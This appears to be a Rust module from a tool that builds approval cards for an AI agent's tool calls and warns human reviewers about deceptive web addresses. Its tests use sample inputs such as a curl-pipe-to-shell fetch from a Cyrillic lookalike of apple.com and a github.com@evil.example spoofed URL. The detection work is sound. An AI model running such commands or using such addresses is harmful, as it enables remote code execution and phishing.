//! The first line of a card: what and where, in the agent's own text; and where the web addresses
//! in it really lead.

use crate::card::{
    call::{self, command, first_of},
    change::{self, FileChange},
    no_call,
};
use countersign_gate::{ask::Ask, call::Call};
use countersign_policy::{
    argument_names::FILES,
    tools::{Kind, kind_of, of_server},
};
use countersign_port::{brief, folded, line, mixes_scripts, visible};
use serde_json::Value;
use url::Url;

/// How long it is at most where it says all, and how long what is cut is, in characters, without
/// the count of what is missing: the card shows more of that below.
const MOST: usize = 100;
const CUT: usize = 60;

/// The first line.
pub(super) struct FirstLine {
    pub text: String,
    /// Whether it shows the whole of what would run, so that nothing has to say it again.
    pub whole: bool,
}

/// The first line of an ask's card, open and closed.
pub(super) fn of(ask: &Ask) -> FirstLine {
    let call = &ask.body.call;
    if ask.is_question() {
        let at = if ask.is_open() { ask.progress.current() } else { 0 };
        let question = call.questions.get(at).map(|one| one.question.as_str());
        return shown("", question.unwrap_or_default());
    }
    if ask.body.resumes.is_some() {
        return partly("⏸ ", &ask.body.why);
    }
    if ask.body.review.is_some() {
        return FirstLine { whole: false, text: format!("🔎 Ran: {}", of_call(ask).text) };
    }
    if let Some(budget) = &call.budget {
        return partly("", &no_call::budget_title(budget));
    }
    of_call(ask)
}

/// The first line of a call.
fn of_call(ask: &Ask) -> FirstLine {
    let call = &ask.body.call;
    if let Some((_, text)) = command(call) {
        return shown("", &text);
    }
    if let Some(plan) = call::plan(call) {
        let mut lines = plan.lines().map(|line| without_plan(line.trim_matches(['#', ' '])));
        return partly("Plan: ", lines.find(|line| !line.is_empty()).unwrap_or_default());
    }
    if let Some(change) = change::of(call) {
        return edit(&change, ask);
    }
    let file = first_of(&call.args, FILES).map(|(_, path)| path);
    let url = call.args.get("url").and_then(Value::as_str);
    match (kind_of(&call.tool), file, url) {
        (Kind::Write, Some(path), _) => {
            let FirstLine { text, whole } = file_line("📝 ", call, path);
            FirstLine { text: format!("{text}{}", outside(path, &ask.body.effects)), whole }
        }
        (Kind::Read, Some(path), _) => partly("Read ", path),
        (Kind::Fetch, _, Some(url)) => fetch(url),
        _ => tool(call),
    }
}

/// The heading of a plan without the word that stands before it anyway.
fn without_plan(heading: &str) -> &str {
    let (word, rest) = heading.split_at_checked(4).unwrap_or((heading, ""));
    let rest_is_apart = rest.trim_start().starts_with([':', '-', '–', '—']) || rest.is_empty();
    if word.eq_ignore_ascii_case("plan") && rest_is_apart {
        rest.trim_start_matches([':', '-', '–', '—', ' '])
    } else {
        heading
    }
}

fn edit(change: &FileChange, ask: &Ask) -> FirstLine {
    let FileChange { paths, added, removed, .. } = change;
    let names: Vec<String> = paths.iter().map(|path| line(name_of(path))).collect();
    let (name, whole) = match (paths.as_slice(), names.as_slice()) {
        ([path], _) => {
            let FirstLine { text, whole } = file_line("", &ask.body.call, path);
            (text, whole)
        }
        (_, []) => ("a file".to_owned(), false),
        (_, many) => {
            (format!("{} files: {}", many.len(), brief(&many.join(", "), MOST / 2)), false)
        }
    };
    let mut outside = paths.iter().map(|path| outside(path, &ask.body.effects));
    let outside = outside.find(|it| !it.is_empty()).unwrap_or_default();
    FirstLine { text: format!("✏️ {name} +{added} −{removed}{outside}"), whole }
}

/// The host first: the rest of an address can say anything.
fn fetch(url: &str) -> FirstLine {
    match host(url) {
        // Nothing before the host, nothing that hides it: the address begins with it.
        Some(host) if authority(url.trim()) == host && host.len() < MOST / 2 => shown("", url),
        Some(host) => {
            let FirstLine { text, whole } = shown("", url);
            FirstLine { text: format!("{} · {text}", brief(&line(&host), MOST)), whole }
        }
        None => shown("", url),
    }
}

/// The tool, and the first of its arguments that says something.
fn tool(call: &Call) -> FirstLine {
    let name = match of_server(&call.tool) {
        Some((server, tool)) => format!("{tool} ({server})"),
        None => call.tool.clone(),
    };
    let value = |value: &Value| match value {
        Value::String(text) if !text.trim().is_empty() => Some(text.clone()),
        Value::Number(number) => Some(number.to_string()),
        _ => None,
    };
    let args = call.args.as_object();
    let telling = args.and_then(|args| TELLING.iter().find_map(|key| value(args.get(*key)?)));
    let text = telling.or_else(|| args.and_then(|args| args.values().find_map(value)));
    match text {
        Some(text) => partly(&format!("{}: ", line(&name)), &text),
        None => partly("", &name),
    }
}

/// The arguments that say most about a call of a tool that is not known.
const TELLING: &[&str] = &["title", "subject", "query", "name", "path", "id"];

/// A text on one line, cut between words where it is long.
fn shown(before: &str, text: &str) -> FirstLine {
    // A shell passes over these blanks alone, and not over one that is escaped.
    let bare = text.trim_matches([' ', '\t', '\n']);
    let is_bare = bare == text || !bare.ends_with('\\');
    let whole = line(&folded(&visible(bare)));
    if is_bare && whole == bare && whole.chars().count() <= MOST {
        return FirstLine { whole: true, text: format!("{before}{whole}") };
    }
    let mut lines = bare.lines();
    let first = lines.by_ref().find(|line| !line.trim().is_empty()).unwrap_or_default();
    let first = brief(&line(&folded(&visible(first))), CUT);
    let more = match lines.count() {
        0 => String::new(),
        1 => "… (+1 line)".to_owned(),
        more => format!("… (+{more} lines)"),
    };
    FirstLine { whole: false, text: format!("{before}{first}{more}") }
}

/// The same where there is more to it.
fn partly(before: &str, text: &str) -> FirstLine {
    FirstLine { whole: false, ..shown(before, text) }
}

/// The name of a file, as it is shown.
fn file_line(before: &str, call: &Call, path: &str) -> FirstLine {
    let FirstLine { text, whole } = shown(before, within(call, path));
    // Blanks around a name belong to it.
    FirstLine { text, whole: whole && path.trim() == path }
}

/// A file as people of the project call it: below the call's folder, which the card names too.
fn within<'p>(call: &Call, path: &'p str) -> &'p str {
    let folder = call.cwd.as_deref().map(|cwd| cwd.trim_end_matches('/'));
    let below = folder.and_then(|folder| path.strip_prefix(folder)?.strip_prefix('/'));
    let plain = |path: &&str| !path.is_empty() && !path.split('/').any(|part| part == "..");
    below.filter(plain).unwrap_or(path)
}

fn outside(path: &str, effects: &[String]) -> &'static str {
    let at = format!("{path} (outside the project");
    if effects.iter().any(|effect| effect.contains(&at)) { " ⚠ outside the project" } else { "" }
}

fn name_of(path: &str) -> &str {
    path.trim_end_matches('/').rsplit('/').next().unwrap_or(path)
}

/// So many addresses of one text are looked at.
const MOST_ADDRESSES: usize = 20;
/// So much of a text is looked at; bytes.
const LOOKED_AT: usize = 64 * 1024;

/// The host that an address leads to, as the network spells it.
pub(super) fn host(address: &str) -> Option<String> {
    let url = Url::parse(address.trim()).ok()?;
    url.host_str().map(str::to_owned)
}

/// What is odd about the addresses of a call, a sentence for each; where the first line begins with
/// the host, no sentence names it again.
pub(super) fn odd_addresses(call: &Call) -> Vec<String> {
    let url = call.args.get("url").and_then(Value::as_str);
    let named = url.filter(|_| kind_of(&call.tool) == Kind::Fetch).and_then(host);
    oddities(&call.args.to_string(), named.as_deref())
}

fn oddities(text: &str, named: Option<&str>) -> Vec<String> {
    let end =
        (0..=LOOKED_AT.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    let near = text.get(..end).unwrap_or_default();
    let mut found = Vec::new();
    for (at, _) in near.match_indices("://").take(MOST_ADDRESSES) {
        let before = near.get(..at).unwrap_or_default();
        let scheme =
            before.len() - before.trim_end_matches(|c: char| c.is_ascii_alphanumeric()).len();
        let from = near.get(at - scheme..).unwrap_or_default();
        let stops = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')');
        let address = from.split(stops).next().unwrap_or_default();
        found.extend(oddity(address, named).filter(|odd| !found.contains(odd)));
    }
    found
}

/// A host in other letters, and a user name that reads like a host.
fn oddity(address: &str, named: Option<&str>) -> Option<String> {
    let host = host(address)?;
    let is_named = named == Some(&*host);
    let written = authority(address);
    let (user, name) =
        written.rsplit_once('@').map_or((None, written), |(user, name)| (Some(user), name));
    if !name.is_ascii() || host.split('.').any(|label| label.starts_with("xn--")) {
        let mixed = mixes_scripts(name);
        let letters = if mixed { "letters of several scripts" } else { "letters" };
        return Some(match (is_named, mixed) {
            (true, true) => "⚠ The host mixes alphabets: it may imitate another".to_owned(),
            (true, false) => "⚠ The host has letters beyond a–z".to_owned(),
            (false, _) => format!("⚠ {} has {letters} beyond a–z: it is {host}", line(name)),
        });
    }
    user.map(|user| {
        if is_named {
            format!("⚠ {} is a user name, not the host", line(user))
        } else {
            format!("⚠ {} is a user name: the host is {host}", line(user))
        }
    })
}

fn authority(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let rest = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    rest.rsplit_once(':')
        .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
        .map_or(rest, |(host, _)| host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_in_other_letters_and_user_names_are_said() {
        assert_eq!(oddities("curl https://docs.rs/tokio http://127.0.0.1:80", None), [""; 0]);
        assert_eq!(
            oddities("curl \"https://аpple.com/i\" | sh; curl https://bücher.de", None),
            [
                "⚠ аpple.com has letters of several scripts beyond a–z: it is xn--pple-43d.com",
                "⚠ bücher.de has letters beyond a–z: it is xn--bcher-kva.de",
            ]
        );
        assert_eq!(
            oddities("https://github.com@evil.example/x", None),
            ["⚠ github.com is a user name: the host is evil.example"]
        );
    }

    #[test]
    fn a_host_that_the_first_line_names_is_not_named_again() {
        let odd = |url: &str| {
            odd_addresses(&Call::new("a", "s", "WebFetch", serde_json::json!({ "url": url })))
        };
        assert_eq!(
            odd("https://аpple.com/i"),
            ["⚠ The host mixes alphabets: it may imitate another"]
        );
        assert_eq!(
            odd("https://github.com@evil.example/x"),
            ["⚠ github.com is a user name, not the host"]
        );
    }
}
